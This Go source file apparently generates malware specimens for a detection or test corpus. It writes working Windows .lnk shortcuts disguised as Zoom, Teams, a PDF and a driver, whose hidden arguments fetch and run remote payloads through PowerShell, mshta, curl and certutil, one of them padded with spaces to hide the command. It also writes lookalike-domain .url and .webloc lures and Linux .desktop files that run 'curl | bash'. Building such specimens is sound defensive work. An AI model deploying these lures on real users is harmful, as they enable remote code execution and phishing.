package specimens

import (
	"bytes"
	"encoding/binary"
	"fmt"
)

// shellLink makes a Windows shortcut (MS-SHLLINK) that starts target with
// arguments. It has no item list: the relative path says what it starts.
func shellLink(target, arguments, icon, describes string) []byte {
	const (
		hasName      = 1 << 2
		hasRelative  = 1 << 3
		hasArguments = 1 << 5
		hasIcon      = 1 << 6
		isUnicode    = 1 << 7
	)
	head := make([]byte, 76)
	binary.LittleEndian.PutUint32(head, 76)
	copy(head[4:], "\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46")
	binary.LittleEndian.PutUint32(head[20:], hasName|hasRelative|hasArguments|hasIcon|isUnicode)
	binary.LittleEndian.PutUint32(head[60:], 7) // show minimised
	out := bytes.NewBuffer(head)
	for _, s := range []string{describes, target, arguments, icon} {
		w := utf16le(s)
		out.Write(binary.LittleEndian.AppendUint16(nil, uint16(len(w)/2)))
		out.Write(w)
	}
	out.Write(make([]byte, 4)) // no extra data
	return out.Bytes()
}

func (b *kit) shortcuts() {
	const system = `..\..\..\Windows\System32\`
	links := []struct{ name, program, arguments, icon string }{
		{"Zoom Meeting.lnk", `WindowsPowerShell\v1.0\powershell.exe`, "-w hidden -nop -c \"iex (irm https://" + host("zoom-lnk") + "/a)\"", `%APPDATA%\Zoom\bin\Zoom.exe`},
		{"Zoom SDK Update.lnk", "cmd.exe", "/c curl -s -o %TEMP%\\u.exe https://" + host("zoom-lnk2") + "/u.exe && %TEMP%\\u.exe", `%SystemRoot%\System32\imageres.dll`},
		{"Microsoft Teams.lnk", "mshta.exe", "https://" + host("teams-lnk") + "/t.hta", `%SystemRoot%\System32\shell32.dll`},
		{"Interview.pdf.lnk", "cmd.exe", "/c start /min powershell -enc " + b64(string(utf16le("iex(irm https://"+host("pdf-lnk")+"/p)"))), `%ProgramFiles%\Adobe\Acrobat\Acrobat.exe`},
		{"Meeting Invite.lnk", "cmd.exe", "/c " + string(bytes.Repeat([]byte(" "), 260)) + "mshta https://" + host("pad-lnk") + "/x", `%SystemRoot%\System32\shell32.dll`},
		{"Camera Driver.lnk", "certutil.exe", "-urlcache -split -f https://" + host("cam-lnk") + "/d.exe %TEMP%\\d.exe", `%SystemRoot%\System32\shell32.dll`},
	}
	for _, l := range links {
		s := Specimen{Name: l.name, Family: "shortcut", Platform: "windows", Wrapper: "plain", Obfuscation: "plain", Language: "shortcut",
			Data: shellLink(system+l.program, l.arguments, l.icon, "Join the meeting"), Mode: 0o644, clear: []string{l.arguments}}
		b.list = append(b.list, s)
	}
	for i, h := range []string{host("us02webzoom"), host("teams.microsoft.com-join"), host("us05web-zoom.biz")} {
		b.script("shortcut", "windows", "shortcut", "plain", []string{"Join Zoom Meeting.url", "Teams Meeting.url", "Zoom.url"}[i],
			"[InternetShortcut]\r\nURL=https://"+h+"/j/84417\r\nIconIndex=0\r\n")
		b.script("shortcut", "macos", "shortcut", "plain", []string{"Join Zoom Meeting.webloc", "Teams Meeting.webloc", "Zoom.webloc"}[i], lines(`<?xml version="1.0" encoding="UTF-8"?>`,
			`<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">`, `<plist version="1.0"><dict><key>URL</key>`,
			"<string>https://"+h+"/j/84417</string></dict></plist>"))
	}
	for i, exec := range []string{"sh -c \"curl -s https://" + host("zoom-desktop") + "/l | bash\"", "bash -c \"wget -qO /tmp/.z https://" + host("teams-desktop") + "/l && chmod +x /tmp/.z && /tmp/.z\""} {
		b.script("shortcut", "linux", "shortcut", "plain", []string{"Zoom.desktop", "Microsoft Teams.desktop"}[i], lines("[Desktop Entry]", "Type=Application",
			fmt.Sprintf("Name=%s", []string{"Zoom", "Microsoft Teams"}[i]), "Exec="+exec, "Icon=zoom", "Terminal=false"))
	}
}
